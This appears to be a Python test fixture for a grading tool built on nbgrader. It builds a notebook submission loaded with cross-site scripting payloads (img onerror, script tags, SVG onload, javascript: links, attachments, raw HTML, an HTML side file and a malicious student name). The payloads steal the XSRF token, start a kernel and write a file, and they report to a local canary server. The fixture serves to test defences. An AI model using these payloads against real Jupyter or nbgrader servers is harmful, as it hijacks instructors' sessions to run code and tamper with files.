"""A submission whose HTML attacks whoever opens it: formgrader's instructor, or the feedback's reader.

Every payload does what issue 31's written answer did, aimed at a canary: it asks the
canary URL for an image and a fetch, starts a kernel with the instructor's session
(``POST /api/kernels``) and writes a file (``PUT /api/contents/ctxlab_xss_mark.txt``). The
payload sits in the written answer (markdown: ``<img onerror>``, ``<script>``, ``<svg onload>``,
a ``javascript:`` link), in a code cell the learner added (JavaScript, HTML and SVG outputs,
produced by the sandboxed kernel at autograde), in a markdown cell with SVG and HTML
attachments, in a raw HTML cell, in an ``.html`` file beside the notebook, and in the
learner's LMS name (which formgrader prints unescaped). :func:`build` grades it with
nbgrader as ``ctxlab grade`` does and writes its feedback.
"""
from __future__ import annotations

import base64
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import nbformat

from ctxlab.grading._nbgrader import autograde, gradebook_url, make_course_root, nbgrader, place_submission

ASSIGNMENT = "00_start_here"
STUDENT = "mallory"
MARK = "ctxlab_xss_mark.txt"          # the file a payload tries to write into the server's root
ANSWER_TEXT = "RAG を組む前に、規程の総トークン数を count_tokens で数えます。"
_PAYLOAD = ("(function(){{var c='{canary}';new Image().src=c+'img';fetch(c+'fetch').catch(function(){{}});"
            "var x=document.cookie.match(/_xsrf=([^;]+)/);var h={{'X-XSRFToken':x?decodeURIComponent(x[1]):''}};"
            "fetch('/api/kernels',{{method:'POST',headers:h,body:'{{}}'}});"
            "fetch('/api/contents/{mark}',{{method:'PUT',headers:h,"
            "body:JSON.stringify({{type:'file',format:'text',content:'xss'}})}});}})()")


class Canary:
    """An HTTP server on 127.0.0.1 that records every request it gets."""

    def __init__(self):
        requests = self.requests = []

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):  # noqa: N802
                requests.append(self.path)
                self.send_response(204)
                self.end_headers()

            do_POST = do_PUT = do_GET  # noqa: N815

            def log_message(self, *args):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def payload(canary_url: str) -> str:
    return _PAYLOAD.format(canary=canary_url, mark=MARK)


def hostile_notebook(release: Path, canary_url: str):
    """The released notebook with every payload in it (the exercises left unanswered)."""
    js = payload(canary_url)
    attr = js.replace('"', "&quot;")
    nb = nbformat.read(release, as_version=4)
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == "why-not-rag":
            cell.source = (f"{ANSWER_TEXT}\n\n<img src=x onerror=\"{attr}\">\n\n<script>{js}</script>\n\n"
                           f"<svg onload=\"{attr}\"></svg>\n\n[根拠](javascript:{js})")
    first_code = next(i for i, c in enumerate(nb.cells) if c.cell_type == "code")
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{attr}"><script>{js}</script></svg>'
    html = f'<img src=x onerror="{attr}"><script>{js}</script>'
    code = nbformat.v4.new_code_cell(
        "from IPython.display import HTML, Javascript, display\n"
        f"display(Javascript({js!r}))\n"
        f"display(HTML({html!r}))\n"
        f"display({{'image/svg+xml': {svg!r}, 'text/plain': 'svg'}}, raw=True)\n")
    md = nbformat.v4.new_markdown_cell("図: ![a](attachment:a.svg) ![b](attachment:b.html)")
    md.attachments = {"a.svg": {"image/svg+xml": base64.b64encode(svg.encode()).decode()},
                      "b.html": {"text/html": base64.b64encode(f"<script>{js}</script>".encode()).decode()}}
    raw = nbformat.v4.new_raw_cell(f"<script>{js}</script><img src=x onerror=\"{attr}\">")
    raw.metadata["format"] = "text/html"
    nb.cells[first_code + 1:first_code + 1] = [code, md, raw]
    return nb


def build(tmp: Path, canary_url: str) -> dict:
    """A course root with the hostile submission autograded (in the sandbox) and its feedback
    written, as ``ctxlab grade`` leaves it."""
    root = make_course_root(Path(tmp) / "course_root", [ASSIGNMENT])
    nb = hostile_notebook(root / "course" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", canary_url)
    path = Path(tmp) / f"{ASSIGNMENT}.ipynb"
    nbformat.write(nb, path)
    folder = place_submission(root, STUDENT, ASSIGNMENT, path).parent
    (folder / "notes.html").write_text(f"<html><body><script>{payload(canary_url)}</script></body></html>",
                                       encoding="utf-8")
    from nbgrader.api import Gradebook

    with Gradebook(gradebook_url(root)) as gb:
        name = f"<img src=x onerror=\"{payload(canary_url)}\">"
        gb.update_or_create_student(STUDENT, first_name="Mallory", last_name=name)
    proc = autograde(root, ASSIGNMENT, STUDENT)
    assert proc.returncode == 0, proc.stdout[-3000:] + proc.stderr[-3000:]
    nbgrader(root, "generate_feedback", ASSIGNMENT, f"--student={STUDENT}", "--force")
    with Gradebook(gradebook_url(root)) as gb:
        sub = gb.find_submission_notebook(ASSIGNMENT, ASSIGNMENT, STUDENT)
        submission_id = sub.id
    return {"root": root, "submission_id": submission_id,
            "autograded": root / "autograded" / STUDENT / ASSIGNMENT / f"{ASSIGNMENT}.ipynb",
            "feedback": root / "feedback" / STUDENT / ASSIGNMENT / f"{ASSIGNMENT}.html",
            "canary": canary_url}


def written_score(root: Path) -> float | None:
    """The manual score of the hostile learner's written answer in the gradebook."""
    from nbgrader.api import Gradebook

    with Gradebook(gradebook_url(root)) as gb:
        return gb.find_grade("why-not-rag", ASSIGNMENT, ASSIGNMENT, STUDENT).manual_score
